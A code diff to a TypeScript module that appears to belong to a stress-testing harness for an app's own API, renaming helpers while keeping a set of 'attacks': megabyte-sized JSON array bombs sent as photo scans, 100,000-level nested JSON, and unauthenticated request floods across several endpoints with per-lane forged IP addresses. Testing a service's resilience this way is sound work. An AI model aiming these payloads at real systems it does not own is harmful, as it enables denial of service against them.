@@ -1,11 +1,12 @@
 import { setTimeout as sleep } from 'node:timers/promises';
-import { type Attack, buildBenchmarkIpAddress, type StatusCounts } from '../attack-types.ts';
+import type { Attack, StatusCounts } from '../attack-types.ts';
+import { buildTestIpAddress } from '../build-test-ip-address.ts';
 import {
-  floodRequests,
   incrementStatusCount,
   openRequest,
   sendAllAtOnce,
   sendRequest,
+  sendRequestsRepeatedly,
 } from '../http-requests.ts';
 
 const MEGABYTE = 1_000_000;
@@ -23,20 +24,20 @@ export const jsonBombs: Attack = async ({ url, accounts }) => {
 export const jsonBombsAsPhotos: Attack = async ({ url, accounts, seconds }) => {
   const emptyArrays = '[],'.repeat(2 * MEGABYTE);
   const body = `{"action":"FOOD_RECOGNITION","payload":{"image":[${emptyArrays}[]],"mimeType":"image/jpeg"}}`;
-  return floodRequests(seconds, 4, (lane) =>
+  return sendRequestsRepeatedly(seconds, 4, (lane) =>
     sendRequest({ url, path: '/scan', account: accounts[lane % accounts.length], body }),
   );
 };
 
 /** A megabyte of empty arrays without a session, to existing and unknown endpoints. */
-export const unauthenticatedArrays: Attack = async ({ url, seconds, network }) => {
+export const unauthenticatedJsonArrays: Attack = async ({ url, seconds, network }) => {
   const body = `[${'[],'.repeat(MEGABYTE / 3)}[]]`;
   const paths = ['/auth/login', '/v1/log/data', '/nothing/here', '/items', '/v1/support'];
-  return floodRequests(seconds, 8, (lane, round) =>
+  return sendRequestsRepeatedly(seconds, 8, (lane, round) =>
     sendRequest({
       url,
       path: paths[round % paths.length] ?? '/',
-      account: { cookie: '', ipAddress: buildBenchmarkIpAddress(network, lane) },
+      account: { cookie: '', ipAddress: buildTestIpAddress(network, lane) },
       body,
     }),
   );
@@ -46,7 +47,7 @@ export const unauthenticatedArrays: Attack = async ({ url, seconds, network }) =
 export const deeplyNestedJson: Attack = async ({ url, accounts, seconds }) => {
   const depth = 100_000;
   const body = `{"action":"CREATE_ITEM","payload":${'{"a":'.repeat(depth / 2)}1${'}'.repeat(depth / 2)}}`;
-  return floodRequests(seconds, 4, (lane) =>
+  return sendRequestsRepeatedly(seconds, 4, (lane) =>
     sendRequest({ url, path: '/items', account: accounts[lane % accounts.length], body }),
   );
 };
